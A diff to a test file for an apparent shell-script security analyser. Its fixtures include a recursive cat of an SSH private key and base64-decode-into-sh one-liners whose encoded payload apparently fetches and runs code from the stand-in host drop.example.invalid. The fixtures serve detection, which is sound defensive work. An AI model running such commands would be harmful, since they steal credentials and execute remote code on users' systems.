@@ -127,3 +127,22 @@ def test_a_function_that_calls_itself_is_followed_once(tmp_path: Path) -> None:
     source = 'walk() { for d in "$@"; do cat "$d"; walk "$d"/*; done; }\nwalk ~/.ssh/id_ed25519\n'
     found = analyse_file(tmp_path, "scripts/walk.sh", source, Language.SHELL)
     assert {d for k, d in summary(found) if k is Kind.SECRET_READ} == {"SSH keys (~/.ssh)"}
+
+
+def test_interpreter_one_liners_that_decode_their_input_are_decoders(tmp_path: Path) -> None:
+    decoders = [
+        "python3 -m base64 -d",
+        "perl -MMIME::Base64 -ne 'print decode_base64($_)'",
+        "ruby -rbase64 -e 'puts Base64.decode64(STDIN.read)'",
+        "busybox base64 -d",
+    ]
+    for decoder in decoders:
+        source = f"echo {PAYLOAD} | {decoder} | sh\n"
+        found = analyse_file(tmp_path, "scripts/x.sh", source, Language.SHELL)
+        assert (Kind.EXEC_FETCHED, "drop.example.invalid") in summary(found), decoder
+
+
+def test_a_perl_one_liner_that_only_filters_decodes_nothing(tmp_path: Path) -> None:
+    source = "perl -ne 'print if /error/' build.log | sh\n"
+    found = analyse_file(tmp_path, "scripts/x.sh", source, Language.SHELL)
+    assert Kind.EXEC_DECODED not in {c.kind for c in found}
